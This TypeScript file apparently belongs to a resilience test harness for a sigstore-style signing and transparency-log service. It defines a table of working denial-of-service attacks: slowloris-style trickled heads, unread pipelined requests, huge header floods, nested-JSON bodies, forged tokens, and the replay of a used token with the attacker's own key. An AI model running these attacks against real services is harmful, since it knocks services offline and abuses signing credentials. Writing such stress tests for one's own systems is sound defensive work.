/** The table of attacks. None of them has a token of its own. */
import { generateKeyPairSync, sign } from 'node:crypto';
import { setTimeout as sleep } from 'node:timers/promises';
import {
  expensiveQuestions,
  foreignEntry,
  foreignEnvelope,
  searches,
  wideEnvelope,
} from './artifact-requests.ts';
import { forgedToken, PEM } from './forged-requests.ts';
import { HTTP2_ATTACKS } from './http2-attacks.ts';
import { inTurn, keepOpen, readSlowly, sendUnread, trickle } from './sockets.ts';
import type { TargetAddress } from './target.ts';

/** What attackers know: the service, and a used token of the honest client. */
export interface AttackedService extends TargetAddress {
  readonly usedToken: string;
}

/** One attack. */
export interface Attack {
  readonly name: string;
  /** What the attackers do. */
  readonly what: string;
  /** Attacks until `until` is aborted. */
  readonly run: (target: AttackedService, until: AbortSignal) => Promise<void>;
  /** Whether the service gets the signal to end while the attack goes on. */
  readonly endsService?: boolean;
  /** Whether it is memory that it is after. The service is started anew for it: what other attacks left is used again, and would
   * hide what this one takes. */
  readonly fillsMemory?: boolean;
  /** Whether attackers and honest signers are clients of one proxy, whose connection they share. */
  readonly throughProxy?: boolean;
}

const KIB = 1024;
const SIGN = '/api/v2/signingCert';
const TIMESTAMP = '/api/v1/timestamp';
const JSON_TYPE = 'Content-Type: application/json';

/** A request for a timestamp as sigstore-js sends it. */
const timestamp = (): Buffer =>
  request(
    `POST ${TIMESTAMP}`,
    ['Content-Type: application/json'],
    JSON.stringify({ artifactHash: Buffer.alloc(32, 7).toString('base64'), hashAlgorithm: 'sha256' }),
  );

/** One request. */
function request(line: string, headers: readonly string[] = [], body = ''): Buffer {
  const length = body === '' ? [] : [`Content-Length: ${Buffer.byteLength(body)}`];
  return Buffer.from([`${line} HTTP/1.1`, 'Host: a', ...headers, ...length, '', body].join('\r\n'));
}

/** As many requests as the service reads at once. */
const segment = (one: Buffer, bytes = 64 * KIB): Buffer =>
  Buffer.concat(Array.from({ length: Math.floor(bytes / one.length) }, () => one));

const signingBody = (token: string, content = PEM): string =>
  JSON.stringify({
    credentials: { oidcIdentityToken: token },
    publicKeyRequest: { publicKey: { algorithm: 'ECDSA', content }, proofOfPossession: 'AAAA' },
  });

const signing = (token: string, content?: string): Buffer =>
  request(`POST ${SIGN}`, ['Content-Type: application/json'], signingBody(token, content));

/** A request with a head of 60 KB. */
const bigHead = (line: string): Buffer =>
  request(
    line,
    Array.from({ length: 150 }, (_, i) => `X-${i}: ${'a'.repeat(390)}`),
  );

/** One of them by chance. */
const anyOf = (requests: readonly Buffer[]): Buffer =>
  requests[Math.floor(Math.random() * requests.length)] ?? Buffer.alloc(0);

/** A signing request as large as a body may be that is not large, with a forged token. */
function fullBody(issuer: string, keyId: string): Buffer {
  const body = signingBody(forgedToken(issuer, keyId));
  return request(`POST ${SIGN}`, ['Content-Type: application/json'], body.padEnd(16_300));
}

const pathOf = (url: string): string => new URL(url).pathname;

/** The table. */
export const ATTACKS: readonly Attack[] = [
  {
    name: 'pipelined-unread',
    what: '400 connections send requests in heaps and read no answer',
    run: ({ url }, until) =>
      keepOpen(url, { count: 400 }, until, async (socket) => {
        const heap = segment(request('GET /healthz'));
        while (!socket.destroyed) {
          sendUnread(socket, heap);
          await sleep(100);
        }
      }),
  },
  {
    name: 'pipelined-segments',
    what: 'segments of 2,000 requests to unknown paths, 1 MB a second, each on a connection of its own',
    run: ({ url }, until) =>
      keepOpen(url, { count: 16, perSecond: 16 }, until, async (socket) => {
        sendUnread(socket, segment(request('GET /x')));
        await sleep(500);
        socket.destroy();
      }),
  },
  {
    name: 'pipelined-odd-requests',
    what: 'the same with requests that the runtime answers by itself: no host, a strange expectation, an upgrade',
    run: ({ url }, until) =>
      keepOpen(url, { count: 400 }, until, (socket) => {
        const odd = [
          request('GET /x', ['Expect: the-unexpected']),
          request('GET /x', ['Connection: upgrade', 'Upgrade: websocket']),
          request('POST /api/v2/signingCert', ['Expect: 100-continue', 'Content-Length: 0']),
          request('OPTIONS /x', ['Access-Control-Request-Method: POST']),
        ];
        sendUnread(socket, segment(odd[Math.floor(Math.random() * odd.length)] ?? Buffer.alloc(0)));
      }),
  },
  {
    name: 'pipelined-operator',
    what: '64 connections to the operator’s listener send requests in heaps and read no answer',
    run: ({ metricsUrl }, until) =>
      keepOpen(metricsUrl, { count: 64 }, until, (socket) => {
        sendUnread(socket, segment(request('GET /metrics')));
      }),
  },
  {
    name: 'unknown-paths',
    what: '64 connections ask for paths that are not there, one after the other',
    run: ({ url }, until) =>
      keepOpen(url, { count: 64 }, until, (socket) => {
        inTurn(socket, request(`GET /${crypto.randomUUID()}`));
      }),
  },
  {
    name: 'unfinished-bodies',
    fillsMemory: true,
    what: '1,500 connections send 255 KiB of a body, the last of it in small chunks, and no more',
    run: ({ url }, until) =>
      keepOpen(url, { count: 1500 }, until, (socket) => {
        socket.write(request(`POST ${SIGN}`, [`Content-Length: ${256 * KIB}`]));
        socket.write(Buffer.alloc(200 * KIB, ' '));
        // In pieces of a kilobyte, so that the memory is filled to the last one.
        return trickle(socket, ' '.repeat(KIB), 100, 55);
      }),
  },
  {
    name: 'trickled-bodies',
    what: '1,500 connections send a body in chunks of one byte',
    run: ({ url }, until) =>
      keepOpen(url, { count: 1500 }, until, (socket) => {
        socket.write(request(`POST ${SIGN}`, ['Transfer-Encoding: chunked']));
        return trickle(socket, '1\r\n \r\n'.repeat(200), 500);
      }),
  },
  {
    name: 'trickled-heads',
    what: '4,500 connections send a header a second and never end',
    run: ({ url }, until) =>
      keepOpen(url, { count: 4500, perSecond: 2000 }, until, (socket) => {
        socket.write(`POST ${SIGN} HTTP/1.1\r\nHost: a\r\n`);
        return trickle(socket, 'X-A: b\r\n', 1000);
      }),
  },
  {
    name: 'big-heads',
    fillsMemory: true,
    what: '2,000 connections send 60 KB of headers and do not end them',
    run: ({ url }, until) =>
      keepOpen(url, { count: 2000 }, until, (socket) => {
        socket.write(`POST ${SIGN} HTTP/1.1\r\nHost: a\r\n${'ab: cd\r\n'.repeat(7500)}`);
      }),
  },
  {
    name: 'hidden-heads',
    fillsMemory: true,
    what: '4,000 connections send one request and behind it, in the same segment, 60 KB of a head that they do not end',
    run: ({ url }, until) =>
      keepOpen(url, { count: 4000 }, until, (socket) => {
        const head = `POST ${SIGN} HTTP/1.1\r\nHost: a\r\nX-A: ${'a'.repeat(60_000)}`;
        socket.write(Buffer.concat([request('GET /healthz'), Buffer.from(head)]));
      }),
  },
  {
    name: 'kept-heads',
    fillsMemory: true,
    what: '1,000 connections send heads of 60 KB in two pieces, the bulk in another header each time, and stay',
    run: ({ url }, until) =>
      keepOpen(url, { count: 1000, perSecond: 400 }, until, async (socket) => {
        socket.resume();
        for (let place = 29; place >= 0 && !socket.destroyed; place--) {
          const small = Array.from({ length: place }, (_, i) => `X-${i}: a`);
          const head = request('GET /healthz', [...small, `Y: ${'a'.repeat(60_000)}`]);
          socket.write(head.subarray(0, -4));
          await sleep(50);
          socket.write(head.subarray(-4));
          await sleep(50);
        }
      }),
  },
  {
    name: 'unfinished-trailers',
    fillsMemory: true,
    what: '4,000 connections send 60 KB of a trailer behind a body in chunks, and do not end it',
    run: ({ url }, until) =>
      keepOpen(url, { count: 4000 }, until, (socket) => {
        const body = request(`POST ${SIGN}`, ['Transfer-Encoding: chunked']);
        socket.write(Buffer.concat([body, Buffer.from(`0\r\nX: ${'a'.repeat(60_000)}`)]));
      }),
  },
  {
    name: 'unread-heads',
    fillsMemory: true,
    what: '1,200 connections leave answers unread until the kernel takes no more, and then send heads of 60 KB',
    run: ({ url }, until) =>
      keepOpen(url, { count: 1200, perSecond: 120 }, until, async (socket) => {
        const small = request('GET /api/v2/trustBundle');
        // Where the kernel's limit lies is not seen from here: some connections meet it.
        for (let left = 4 + 9 * Math.random(); left > 0 && !socket.destroyed; left--) {
          sendUnread(socket, segment(small, 7 * small.length));
          await sleep(50);
        }
        for (let i = 0; i < 7 && !socket.destroyed; i++) {
          sendUnread(socket, bigHead('GET /api/v2/trustBundle'));
          await sleep(50);
        }
      }),
  },
  {
    name: 'idle-connections',
    what: '5,000 connections ask once and stay',
    run: ({ url }, until) =>
      keepOpen(url, { count: 5000, perSecond: 2000 }, until, (socket) => {
        sendUnread(socket, request('GET /healthz'));
      }),
  },
  {
    name: 'unread-tiles',
    fillsMemory: true,
    what: '4 connections ask for entries in 5,680 bytes, all at once on each of them, and read nothing',
    run: ({ url, logUrl }, until) =>
      keepOpen(url, { count: 4, perSecond: 3 }, until, (socket) => {
        const read = request(`GET ${pathOf(logUrl)}/ct/v1/get-entries?start=0&end=999`);
        sendUnread(socket, segment(read, 5680 / 4));
      }),
  },
  {
    name: 'unread-at-the-end',
    what: '2 connections ask for entries three times at once and read nothing, while the service ends',
    endsService: true,
    run: ({ url, logUrl }, until) =>
      // Less than one client may leave unread: all of it waits when the service gets the signal to end.
      keepOpen(url, { count: 2 }, until, (socket) => {
        const read = request(`GET ${pathOf(logUrl)}/ct/v1/get-entries?start=0&end=999`);
        sendUnread(socket, segment(read, 3 * read.length));
      }),
  },
  {
    name: 'one-reader',
    what: '24 connections read entries as fast as they get them',
    run: ({ url, logUrl }, until) =>
      keepOpen(url, { count: 24 }, until, (socket) => {
        inTurn(socket, request(`GET ${pathOf(logUrl)}/ct/v1/get-entries?start=0&end=999`));
      }),
  },
  {
    name: 'forged-tokens',
    what: '512 connections send tokens that somebody else signed, one after the other',
    run: ({ url, issuer, keyId }, until) =>
      keepOpen(url, { count: 512 }, until, (socket) => {
        inTurn(socket, signing(forgedToken(issuer, keyId)));
      }),
  },
  {
    name: 'pipelined-bodies',
    what: '300 connections send eight whole signing requests of 16 KB at once, with forged tokens, again and again',
    run: ({ url, issuer, keyId }, until) =>
      keepOpen(url, { count: 300, perSecond: 150 }, until, (socket) => {
        inTurn(socket, segment(fullBody(issuer, keyId), 8 * 17 * KIB), 8);
      }),
  },
  {
    name: 'hanging-issuer',
    fillsMemory: true,
    what: '600 connections send tokens of a configured issuer that does not answer, with keys of 200 KiB',
    run: ({ url, hangingIssuer, keyId }, until) =>
      keepOpen(url, { count: 600 }, until, (socket) => {
        inTurn(socket, signing(forgedToken(hangingIssuer, keyId), 'A'.repeat(200 * KIB)));
      }),
  },
  {
    name: 'nested-json',
    what: '32 connections send bodies of 255 KiB of nested JSON, one after the other',
    run: ({ url }, until) =>
      keepOpen(url, { count: 32 }, until, (socket) => {
        const half = 127 * KIB;
        const body = `{"a":${'['.repeat(half)}${']'.repeat(half)}}`;
        inTurn(socket, request(`POST ${SIGN}`, ['Content-Type: application/json'], body));
      }),
  },
  {
    name: 'refusals',
    what: 'one connection asks for a certificate with nothing, as fast as it is refused',
    run: ({ url }, until) =>
      keepOpen(url, { count: 1 }, until, (socket) => {
        inTurn(socket, request(`POST ${SIGN}`, ['Content-Type: application/json'], '{}'));
      }),
  },
  {
    name: 'timestamps',
    what: '256 connections ask for timestamps, one after the other',
    run: ({ url }, until) =>
      keepOpen(url, { count: 256 }, until, (socket) => {
        inTurn(socket, timestamp());
      }),
  },
  {
    name: 'unfinished-timestamps',
    what: '2,000 connections send most of a request for a timestamp, and no more',
    run: ({ url }, until) =>
      keepOpen(url, { count: 2000 }, until, (socket) => {
        socket.write(
          request(`POST ${TIMESTAMP}`, ['Content-Type: application/json', 'Content-Length: 4096']),
        );
        socket.write(Buffer.alloc(4000, ' '));
      }),
  },
  {
    name: 'entries',
    what: '256 connections ask to log signatures by keys on P-521 that are not admitted, or send a list that fills a body',
    run: ({ url }, until) => {
      const signed = [
        request('POST /api/v2/log/entries', [JSON_TYPE], foreignEntry()),
        request('POST /api/v1/log/entries', [JSON_TYPE], foreignEnvelope()),
      ];
      const wide = request('POST /api/v2/log/entries', [JSON_TYPE], wideEnvelope());
      // A mebibyte each: of too many, nothing but sending and receiving is measured.
      const requests = [...signed, ...signed, ...signed, wide];
      return keepOpen(url, { count: 256 }, until, (socket) => {
        inTurn(socket, anyOf(requests));
      });
    },
  },
  {
    name: 'entry-reads',
    what: '64 connections ask for entries that take checks of signatures, ten of a full bundle, and searches with many hits',
    run: ({ url, entryKeyHash }, until) => {
      const requests = expensiveQuestions(entryKeyHash).map(([call, body]) =>
        request(`POST /api/v1/${call}`, [JSON_TYPE], body),
      );
      return keepOpen(url, { count: 64 }, until, (socket) => {
        inTurn(socket, anyOf(requests));
      });
    },
  },
  {
    name: 'searches',
    what: '64 connections search all logs at once, for most entries, for none by sixteen conditions, and for what was signed with each certificate',
    run: ({ url, issuer }, until) => {
      const requests = searches(issuer).map((query) => request(`GET /api/search/v1?${query}`));
      return keepOpen(url, { count: 64 }, until, (socket) => {
        inTurn(socket, anyOf(requests));
      });
    },
  },
  {
    name: 'slow-readers',
    what: '400 connections ask for a tile of entries, and read a kilobyte of it a second',
    run: ({ url, logUrl }, until) =>
      keepOpen(url, { count: 400, perSecond: 200 }, until, async (socket) => {
        sendUnread(socket, request(`GET ${pathOf(logUrl)}/tile/data/000`));
        await readSlowly(socket, KIB, 1000);
      }),
  },
  {
    name: 'unread-trust',
    what: '16 connections ask for the files of trust in heaps, and read nothing',
    run: ({ url }, until) =>
      keepOpen(url, { count: 16, perSecond: 16 }, until, (socket) => {
        const files = [
          'trust/trusted_root.json',
          'trust/client_trust_config.json',
          'tuf/root.json',
          'tuf/timestamp.json',
        ];
        sendUnread(socket, segment(Buffer.concat(files.map((file) => request(`GET /${file}`)))));
      }),
  },
  {
    name: 'replayed-token',
    what: '8 connections send a used token of the honest client again and again, with a key and a proof of their own',
    run: ({ url, usedToken }, until) =>
      keepOpen(url, { count: 8 }, until, (socket) => {
        inTurn(socket, replay(usedToken));
      }),
  },
  ...HTTP2_ATTACKS,
];

/** A request with the used token and another key. The proof is over the name, which stands in the token. */
function replay(token: string): Buffer {
  const { privateKey, publicKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' });
  const claims = JSON.parse(Buffer.from(token.split('.')[1] ?? '', 'base64url').toString()) as {
    email: string;
  };
  const body = JSON.stringify({
    credentials: { oidcIdentityToken: token },
    publicKeyRequest: {
      publicKey: { algorithm: 'ECDSA', content: publicKey.export({ type: 'spki', format: 'pem' }) },
      proofOfPossession: sign('sha256', Buffer.from(claims.email), privateKey).toString('base64'),
    },
  });
  return request(`POST ${SIGN}`, ['Content-Type: application/json'], body);
}
